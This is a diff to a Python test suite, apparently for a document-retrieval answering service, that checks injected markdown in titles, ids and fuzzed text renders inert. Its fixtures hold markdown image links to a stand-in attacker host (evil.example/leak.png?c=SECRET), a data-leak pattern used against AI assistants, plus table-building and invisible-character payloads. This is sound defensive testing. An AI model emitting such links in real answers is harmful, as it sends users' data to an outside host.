@@ -43,6 +43,13 @@ HAND = [
     "<a href='https://evil.com'>x</a>",
     "a href=.com:p200.md",  # linkify-it takes `href=.com` for a host
     "&lt;(>[iframe| &#x5b;a href=.com*iframe",
+    # a title with newlines and pipes builds a GFM table whose cell pipes split a code span
+    "`a`|\n-:\n-)|`a`\n:<https://evil.example/l.png?c=S-|-`![x](https://evil.example/leak.png?c=SECRET)",
+    "![x](https://evil.example/leak.png?c=SECRET)|[-\n -|----\n`a`]|---|<:!",
+    "T | x\n---|---\n![x](https://evil.example/leak.png?c=SECRET) | b",
+    "a \\| b\n---",
+    "> a | b\n> -|-\n> c",
+    "- a | b\n  :-|-:\n  c",
 ]
 
 TOKENS = ["[", "]", "(", ")", "!", "<", ">", "\\", "`", "``", ":", "/", "//", "https://evil.com/l?c=S",
@@ -89,7 +96,31 @@ def test_generated_escapes_render_inert(text):
 
 INVISIBLE = ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b",
              "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\x00", "\x07", "\x1b", "\x7f", "\x85",
-             "\U000e0041", "\U000e0020"]
+             "\U000e0041", "\U000e0020",
+             # invisible outside the format category: variation selectors, Hangul fillers, the
+             # braille blank, the combining grapheme joiner, a Mongolian variation selector
+             "\ufe0f", "\ufe00", "\U000e0100", "\U000e01ef", "\u3164", "\u115f", "\uffa0", "\u2800", "\u034f",
+             "\u180b"]
+
+
+TABLE_TOKENS = ["|", "\\|", "-", "---", ":-", "-:", "|---|", "-|-", " | ", "\n", "\n> ", "\n- ", "\n  ", "\n1. ",
+                "`a`", "`", "\\", "![x](https://evil.example/leak.png?c=SECRET)", "[x](http://e.example)", "](", "<",
+                "https://evil.example/l?c=S", "x", " ", "!["]
+
+
+@hsettings(max_examples=600, deadline=None)
+@given(st.lists(st.sampled_from(TABLE_TOKENS), min_size=1, max_size=30).map("".join))
+def test_generated_table_tokens_render_inert(text):
+    # pipes and delimiter rows in any container (quote, list item, indented), around escapes and
+    # code spans: no table, so no cell pipe can split what was made inert
+    for placed in _in_answer(text):
+        assert active_markup(inert_markup(placed)) == [], (placed, inert_markup(placed))
+
+
+def test_pipes_and_rules_read_as_written():
+    for text in ["Torque | 30 Nm | M8", "a\n---|---\nb", "x\n---", "> q\n> -|-"]:
+        shown = rendered_text(inert_markup(text), "gfm-like")
+        assert [w for w in shown.split() if w != ">"] == [w for w in text.split() if w != ">"], (text, shown)
 
 
 @pytest.mark.parametrize("ch", INVISIBLE)
@@ -166,3 +197,61 @@ def test_streamed_answer_text_is_inert_too(hostile_library):
     assert len(sent) == 2 and active_markup(live)
     for text in sent + [result.answer]:
         assert active_markup(text) == [], text
+
+
+LEAK = "![x](https://evil.example/leak.png?c=SECRET)"
+TABLE_TITLE = f"P-920 seals |\n---|---\n{LEAK} | b"
+
+
+@pytest.fixture(scope="module")
+def table_title_library(tmp_path_factory):
+    import docx
+
+    root = tmp_path_factory.mktemp("inert-table")
+    lib = root / "lib"
+    lib.mkdir()
+    body = "Replace the P-920 seals every 4,000 hours with kit S-92."
+    (lib / "kb.json").write_text(json.dumps([
+        {"id": "KB-P920\n---|---\n" + LEAK, "title": TABLE_TITLE, "text": body},
+    ]), encoding="utf-8")
+    (lib / "page.html").write_text(f"<html><head><title>{TABLE_TITLE}</title></head><body><p>{body}</p></body></html>",
+                                   encoding="utf-8")
+    d = docx.Document()
+    d.core_properties.title = TABLE_TITLE
+    d.add_paragraph(body)
+    d.save(lib / "sheet.docx")
+    settings = Settings(_env_file=None, home=root / "home", audit_log_path=root / "audit.jsonl", mcp_allowed_hosts="")
+    report = run_ingest(settings, [lib], prune=False, quiet=True)
+    assert not report.failed, report.failed
+    return settings
+
+
+def test_titles_and_ids_are_one_line(table_title_library):
+    # JSON titles and ids, an HTML <title> and a DOCX core title lose their newlines as other
+    # metadata does: a title is one line, so it cannot build a table in `Sources:`
+    gate = SourceGate(table_title_library, judge=KeywordJudge())
+    try:
+        docs = gate.store.list_documents()
+    finally:
+        gate.close()
+    assert len(docs) == 3
+    for d in docs:
+        assert "\n" not in d.id and "\n" not in d.title, (d.id, d.title)
+    assert {d.title for d in docs} == {" ".join(TABLE_TITLE.split())}
+
+
+def test_table_building_titles_render_inert_everywhere(table_title_library):
+    q = "How often should I replace the P-920 seals?"
+    gate = SourceGate(table_title_library, judge=KeywordJudge())
+    with running_server(create_app(table_title_library, gate), table_title_library) as base:
+        data = httpx.post(base + "/v1/ask", json={"query": q}, timeout=60).json()
+        call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
+                "params": {"name": "search_procedures", "arguments": {"query": q}}}
+        tool = httpx.post(base + "/mcp", json=call, headers={"accept": "application/json, text/event-stream"},
+                          timeout=60).json()["result"]
+    gate.close()
+    assert data["status"] == "answer_from_evidence"
+    assert "evil.example" in data["answer"]  # the title is quoted in Sources, as text
+    assert active_markup(data["answer"]) == []
+    assert active_markup(tool["content"][0]["text"]) == []
+    assert active_markup(tool["structuredContent"]["answer"]) == []
